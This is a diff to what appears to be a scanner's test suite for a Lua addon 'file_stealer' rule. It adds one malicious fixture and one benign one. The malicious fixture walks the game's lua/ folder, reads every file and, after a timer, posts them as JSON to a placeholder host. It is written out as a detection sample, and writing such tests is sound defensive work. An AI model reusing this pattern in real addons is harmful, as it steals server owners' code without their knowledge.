@@ -46,4 +46,28 @@ describe('file_stealer', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('files gathered into records by a recursive walk, uploaded as JSON', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local out = {}',
+        'local function grab(dir)',
+        '  local files, dirs = file.Find(dir .. "*", "GAME")',
+        '  for _, f in ipairs(files) do out[#out + 1] = { dir .. f, file.Read(dir .. f, "GAME") } end',
+        '  for _, d in ipairs(dirs) do grab(dir .. d .. "/") end',
+        'end',
+        'timer.Simple(60, function() grab("lua/") http.Post("https://x.invalid/u", { d = util.TableToJSON(out) }) end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it("the addon's own settings, listed from its folder, posted as JSON (benign)", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local names = file.Find("myaddon/*.json", "DATA")',
+        'local settings = { version = "1.2", count = #names, map = game.GetMap() }',
+        'timer.Simple(60, function() http.Post("https://updates.invalid/check", { s = util.TableToJSON(settings) }) end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
 });
